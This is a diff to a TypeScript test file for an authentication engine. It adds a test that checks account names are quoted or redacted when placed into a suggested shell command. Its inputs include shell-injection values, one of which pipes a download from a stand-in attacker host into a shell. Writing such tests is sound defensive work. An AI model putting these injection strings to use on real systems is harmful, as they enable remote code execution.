@@ -25,14 +25,20 @@ const request = (reason: Reason = 'initial', more: Partial<AuthRequest> = {}) =>
 function programOf(
   who: string,
   store = testStore(),
-  more: { folder?: string; account?: string; identity?: boolean; first?: typeof BROWSER } = {},
+  more: {
+    folder?: string
+    account?: string
+    identity?: boolean
+    first?: typeof BROWSER
+    command?: string
+  } = {},
 ) {
-  const { folder, account, identity = true, first = BROWSER } = more
+  const { folder, account, identity = true, first = BROWSER, command } = more
   return createEngine({
     store,
     first,
     browser: scriptedBrowser({ as: who }),
-    policy: { folder, accountOf: () => account, optionsOf: () => ({ identity }) },
+    policy: { folder, accountOf: () => account, optionsOf: () => ({ identity }), switchCommand: command },
   })
 }
 
@@ -112,6 +118,18 @@ describe('somebody else than before', () => {
     await next.accounts.use(request().server, ADA)
     expect(tokenOf(await next.ask(request()))).not.toBe(token)
     expect(next.prompt.panels).toEqual([])
+  })
+
+  it.each([
+    [ADA, ADA],
+    ['"$(curl evil.example|sh)"@example.com', '<name>'],
+    ['ada;id@example.com', '"ada;id@example.com"'],
+  ])('on a command line %s is one word', async (who, word) => {
+    const store = testStore()
+    await programOf(who, store).ask(request())
+    const engine = programOf(BOB, store, { command: 'copilot-host auth account' })
+    await engine.ask(request('reauth'))
+    expect(engine.prompt.lines[0]).toMatch(`until now (copilot-host auth account notes ${word} goes back)`)
   })
 
   it('in a folder that is bound: this program goes on as them, the folder stays as it is', async () => {
